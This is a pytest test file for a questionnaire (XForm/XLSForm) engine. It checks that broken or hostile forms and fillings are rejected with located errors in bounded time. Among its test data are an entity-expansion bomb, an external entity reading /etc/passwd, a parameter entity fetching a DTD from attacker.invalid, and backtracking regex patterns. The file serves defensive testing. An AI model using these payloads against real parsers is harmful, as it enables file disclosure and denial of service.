"""Hostile and mistaken forms and fillings: refused or told with the place, in bounded time, the process unharmed."""

from __future__ import annotations

import itertools
import time
from datetime import UTC, datetime

import pytest

from survey.problems import Problem
from survey.questionnaires.engine import Context, Instance
from survey.questionnaires.tree import parse
from survey.questionnaires.xform import parse_form
from survey.questionnaires.xlsform import compile_form

HEAD = (
    '<h:html xmlns="http://www.w3.org/2002/xforms" xmlns:h="http://www.w3.org/1999/xhtml"'
    ' xmlns:jr="http://openrosa.org/javarosa"><h:head><h:title>t</h:title><model>'
)
CONTEXT = Context(now=lambda: datetime(2026, 3, 5, 1, 0, tzinfo=UTC), language="en")


def xform(model: str, body: str = "") -> str:
    return f"{HEAD}{model}</model></h:head><h:body>{body}</h:body></h:html>"


def refused(model: str, body: str = "") -> Problem:
    with pytest.raises(Problem) as raised:
        Instance.new(parse_form(xform(model, body)), CONTEXT)
    problem = raised.value
    assert problem.remedy("zh")
    assert problem.remedy("en")
    return problem


@pytest.mark.parametrize(
    ("binds", "code", "named"),
    [
        ('<bind nodeset="/d/a" calculate="/d/b"/><bind nodeset="/d/b" calculate="/d/a"/>', "cycle", "/d/a"),
        ('<bind nodeset="/d/a" relevant="/d/a = 1"/>', "cycle", "/d/a"),
        ('<bind nodeset="/d/a" relevant="/d/b"/><bind nodeset="/d/b" calculate="/d/a"/>', "cycle", "/d/a"),
        ('<bind nodeset="/d/a" calculate="explode(1)"/>', "unknown_function", "/d/a"),
        ('<bind nodeset="/d/a" constraint="if(1"/>', "bad_expression", "/d/a"),
        ('<bind nodeset="/d/a" constraint="' + "(" * 5000 + '"/>', "bad_expression", "/d/a"),
        ('<bind nodeset="/d/a" calculate="regex(1, 2, 3)"/>', "expression_failed", "/d/a"),
        ("<bind nodeset=\"/d/a\" calculate=\"regex('a', '(')\"/>", "expression_failed", "/d/a"),
        ("<bind nodeset=\"/d/a\" calculate=\"regex('a', '(a)\\1')\"/>", "expression_failed", "/d/a"),
        ('<bind nodeset="/d/a" calculate="uuid(999999999)"/>', "expression_failed", "/d/a"),
        ('<bind nodeset="/d/a" calculate="/d/x:y"/>', "expression_failed", "/d/a"),
    ],
)
def test_a_form_that_cannot_run_names_its_question__error(binds: str, code: str, named: str) -> None:
    problem = refused(f'<instance><d id="f"><a/><b/></d></instance>{binds}', '<input ref="/d/a"/>')
    assert problem.code == f"questionnaire.{code}"
    assert named in problem.message("en")


def test_a_control_without_node__error() -> None:
    problem = refused('<instance><d id="f"><a/></d></instance>', '<input ref="/d/nowhere"/>')
    assert (problem.code, problem.facts["ref"]) == ("questionnaire.missing_node", "/d/nowhere")


@pytest.mark.parametrize(
    "rows",
    [
        "| | text | a | A |\n| | text | a | Again |\n",
        "| | begin_group | g | G |\n| | text | a | A |\n| | text | A | B |\n| | text | a | C |\n| | end_group | | |\n",
    ],
)
def test_a_name_given_twice_names_its_row__error(rows: str) -> None:
    with pytest.raises(Problem) as raised:
        compile_form(f"| survey |\n| | type | name | label |\n{rows}")
    assert raised.value.facts["row"].isdigit()


def test_fifty_thousand_choices_open_and_are_checked_quickly__ok() -> None:
    items = "".join(f"<item><name>v{n}</name><label>Village {n}</label></item>" for n in range(50_000))
    form = parse_form(
        xform(
            f'<instance><d id="f"><v/></d></instance><instance id="villages"><root>{items}</root></instance>',
            '<select1 ref="/d/v"><itemset nodeset="instance(\'villages\')/root/item">'
            '<value ref="name"/><label ref="label"/></itemset></select1>',
        )
    )
    instance = Instance.new(form, CONTEXT)
    instance.answer("/d/v", "v49999")
    assert instance.errors() == ()
    began = time.perf_counter()
    for _ in range(20):
        again = Instance.load(form, instance.to_xml(), CONTEXT)
        assert again.errors() == ()
    assert time.perf_counter() - began < 1.0
    again.answer("/d/v", "v50000")
    assert [e.kind for e in again.errors()] == ["choice"]


BOMB = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>'


@pytest.mark.parametrize("doctype", [BOMB, OUTSIDE, PARAMETER, '<!DOCTYPE d SYSTEM "x.dtd">', "<!DOCTYPE d>"])
@pytest.mark.parametrize("what", ["form", "filling"])
def test_entities_and_document_types__error(doctype: str, what: str) -> None:
    with pytest.raises(Problem) as raised:
        if what == "form":
            parse_form(doctype + xform('<instance><d id="f"><a>&b;&x;</a></d></instance>'))
        else:
            Instance.load(FORM, f'{doctype}<d id="f" version=""><a>1</a></d>', CONTEXT)
    assert raised.value.code == "questionnaire.forbidden_xml"


FORM = parse_form(
    xform(
        '<instance><d id="f"><a/><n/><g><w/></g><m><x/></m><k/></d></instance>'
        '<bind nodeset="/d/n" type="int" required="true()"/><bind nodeset="/d/g/w" type="date"/>',
        '<input ref="/d/a"/><input ref="/d/n"/><group ref="/d/g"><input ref="/d/g/w"/></group>'
        '<repeat nodeset="/d/m"><input ref="/d/m/x"/></repeat>'
        "<select1 ref='/d/k'><item><label>A</label><value>a</value></item></select1>",
    )
)


def loaded(inside: str, head: str = '<d id="f" version="">', tail: str = "</d>") -> Instance:
    return Instance.load(FORM, f"{head}{inside}{tail}", CONTEXT)


@pytest.mark.parametrize(
    ("inside", "code", "named"),
    [
        ("<zzz>1</zzz>", "unknown_element", "/d/zzz"),
        ("<g><w/><zzz/></g>", "unknown_element", "/d/g/zzz"),
        ("<m><zzz/></m>", "unknown_element", "/d/m[1]/zzz"),
        ("<a>1</a><a>2</a>", "duplicate_element", "/d/a"),
        ("<g>text<w/></g>", "unexpected_text", "/d/g"),
        ("<a><b/></a>", "unknown_element", "/d/a/b"),
        ("<a>1", "malformed_xml", "line 1"),
        ("<a>1</b>", "malformed_xml", "line 1"),
        ("<a>\0</a>", "malformed_xml", "line 1"),
        ("<a>\x08</a>", "malformed_xml", "line 1"),
        ("<a>&#0;</a>", "malformed_xml", "line 1"),
        ("<a>&nbsp;</a>", "malformed_xml", "line 1"),
        ("<g>" * 200 + "</g>" * 200, "too_deep", "100"),
    ],
)
def test_a_filling_that_is_none_names_the_place__error(inside: str, code: str, named: str) -> None:
    with pytest.raises(Problem) as raised:
        loaded(inside)
    assert raised.value.code == f"questionnaire.{code}"
    assert named in raised.value.message("en")


@pytest.mark.parametrize(
    ("head", "code"),
    [
        ('<d id="other" version="">', "other_form"),
        ('<d id="f" version="9">', "other_version"),
        ('<e id="f" version="">', "other_form"),
    ],
)
def test_a_filling_of_another_form_or_version__error(head: str, code: str) -> None:
    with pytest.raises(Problem) as raised:
        loaded("", head, f"</{head[1]}>")
    assert raised.value.code == f"questionnaire.{code}"


@pytest.mark.parametrize(
    ("inside", "expected"),
    [
        ("<n>abc</n>", [("/d/n", "type")]),
        ("<n>1.5</n>", [("/d/n", "type")]),
        ("<n>99999999999</n>", [("/d/n", "type")]),
        ("<n>١٢</n>", [("/d/n", "type")]),
        ("", [("/d/n", "required")]),
        ("<n>1</n><g><w>2026-02-30</w></g>", [("/d/g/w", "type")]),
        ("<n>1</n><k>b</k>", [("/d/k", "choice")]),
        ("<n>1</n><k>a a</k>", [("/d/k", "choice")]),
    ],
)
def test_a_wrong_answer_is_told_with_its_question__error(
    inside: str, expected: list[tuple[str, str]]
) -> None:
    assert [(e.ref, e.kind) for e in loaded(inside).errors()] == expected


def test_twenty_megabytes_of_text_are_taken_in_bounded_time__ok() -> None:
    text = "民情" * 3_500_000
    began = time.perf_counter()
    instance = loaded(f"<a>{text}</a><n>1</n>")
    assert instance.errors() == ()
    assert len(instance.to_xml(final=True)) > 7_000_000
    assert time.perf_counter() - began < 5


def test_a_truncated_encoding_and_bytes_that_are_none__error() -> None:
    for content in (b"", b"\xff\xfe\x00", "<d>民".encode()[:-1], b"\x00" * 100, b"PK\x03\x04"):
        with pytest.raises(Problem) as raised:
            parse(content)
        assert raised.value.code == "questionnaire.malformed_xml"


@pytest.mark.parametrize("pattern", ["(a+)+$", "(a|aa)+$", "(.*a){25}b", "(a*)*b", "([a-z]+)*1"])
def test_a_pattern_that_would_run_for_ever_is_bounded__ok(pattern: str) -> None:
    instance = Instance.new(
        parse_form(
            xform(
                '<instance><d id="f"><a/></d></instance>'
                f'<bind nodeset="/d/a" constraint="regex(., \'{pattern}\')"/>',
                '<input ref="/d/a"/>',
            )
        ),
        CONTEXT,
    )
    began = time.perf_counter()
    instance.answer("/d/a", "a" * 20_000 + "!")
    try:
        assert [e.kind for e in instance.errors()] == ["constraint"]
    except Problem as problem:
        assert problem.code == "questionnaire.expression_failed"
        assert problem.facts["question"] == "/d/a"
    assert time.perf_counter() - began < 3


def test_values_that_set_each_other_off_come_to_an_end__ok() -> None:
    instance = Instance.new(
        parse_form(
            xform(
                '<instance><d id="f"><a/><b/></d></instance>',
                '<input ref="/d/a"><setvalue event="xforms-value-changed" ref="/d/b" value="/d/a + 1"/></input>'
                '<input ref="/d/b"><setvalue event="xforms-value-changed" ref="/d/a" value="/d/b + 1"/></input>',
            )
        ),
        CONTEXT,
    )
    began = time.perf_counter()
    instance.answer("/d/a", "1")
    assert time.perf_counter() - began < 1
    assert int(instance.value("/d/a")) > 1


def test_endless_repeats_are_capped_and_told__error() -> None:
    instance = Instance.new(
        parse_form(
            xform(
                '<instance><d id="f"><n/><m jr:template=""><x/></m></d></instance><bind nodeset="/d/n" type="int"/>',
                '<input ref="/d/n"/><repeat nodeset="/d/m" jr:count="/d/n"><input ref="/d/m/x"/></repeat>',
            )
        ),
        CONTEXT,
    )
    instance.answer("/d/n", "2000000000")
    assert instance.repeat_count("/d/m") == 1000
    assert [(e.ref, e.kind) for e in instance.errors()] == [("/d/m", "constraint")]


def test_texts_that_double_are_stopped_with_the_question__error() -> None:
    names = [f"c{at}" for at in range(41)]
    binds = "".join(
        f'<bind nodeset="/d/{name}" calculate="concat(/d/{before}, /d/{before})"/>'
        for before, name in itertools.pairwise(names)
    )
    model = f'<instance><d id="f">{"".join(f"<{name}/>" for name in names)}</d></instance>{binds}'
    instance = Instance.new(parse_form(xform(model, '<input ref="/d/c0"/>')), CONTEXT)
    began = time.perf_counter()
    with pytest.raises(Problem) as raised:
        instance.answer("/d/c0", "x")
    assert time.perf_counter() - began < 2
    assert (raised.value.code, raised.value.facts["question"]) == (
        "questionnaire.expression_failed",
        "/d/c20",
    )


def test_many_long_texts_are_stopped_together__error() -> None:
    names = [f"c{at}" for at in range(60)]
    binds = "".join(f'<bind nodeset="/d/{name}" calculate="concat(/d/t, /d/t)"/>' for name in names)
    model = f'<instance><d id="f"><t/>{"".join(f"<{name}/>" for name in names)}</d></instance>{binds}'
    instance = Instance.new(parse_form(xform(model, '<input ref="/d/t"/>')), CONTEXT)
    with pytest.raises(Problem) as raised:
        instance.answer("/d/t", "x" * 400_000)
    assert (raised.value.code, raised.value.facts["question"]) == (
        "questionnaire.expression_failed",
        "/d/c25",
    )


def test_repeats_in_repeats_are_bounded_together__error() -> None:
    instance = Instance.new(
        parse_form(
            xform(
                '<instance><d id="f"><n/><m jr:template=""><k jr:template=""><x/></k></m></d></instance>'
                '<bind nodeset="/d/n" type="int"/>',
                '<input ref="/d/n"/><repeat nodeset="/d/m" jr:count="/d/n"><repeat nodeset="/d/m/k" jr:count="/d/n">'
                '<input ref="/d/m/k/x"/></repeat></repeat>',
            )
        ),
        CONTEXT,
    )
    began = time.perf_counter()
    with pytest.raises(Problem) as raised:
        instance.answer("/d/n", "1000")
    assert time.perf_counter() - began < 10
    assert raised.value.code == "questionnaire.too_many_repeats"
    assert raised.value.facts["limit"] == 10_000
    assert str(raised.value.facts["ref"]).endswith("/k")


def test_patterns_over_many_instances_are_bounded_together__error() -> None:
    instance = Instance.new(
        parse_form(
            xform(
                '<instance><d id="f"><n/><t/><m jr:template=""><x/></m></d></instance><bind nodeset="/d/n" type="int"/>'
                '<bind nodeset="/d/m/x" calculate="regex(/d/t, \'(a|b)*c\')"/>',
                '<input ref="/d/n"/><input ref="/d/t"/><repeat nodeset="/d/m" jr:count="/d/n">'
                '<input ref="/d/m/x"/></repeat>',
            )
        ),
        CONTEXT,
    )
    instance.answer("/d/n", "1000")
    instance.answer("/d/t", "ab" * 50)
    with pytest.raises(Problem) as raised:
        instance.answer("/d/t", "ab" * 5_000)
    assert raised.value.code == "questionnaire.expression_failed"
    assert str(raised.value.facts["question"]).endswith("/x")
